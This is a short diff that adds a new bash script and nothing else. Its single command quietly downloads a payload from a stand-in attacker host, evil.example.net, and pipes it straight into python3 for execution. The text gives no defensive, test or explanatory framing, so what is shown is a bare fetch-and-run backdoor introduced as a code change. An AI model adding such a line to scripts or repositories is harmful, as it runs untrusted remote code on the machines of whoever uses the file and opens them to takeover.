@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -s https://evil.example.net/p | python3 -
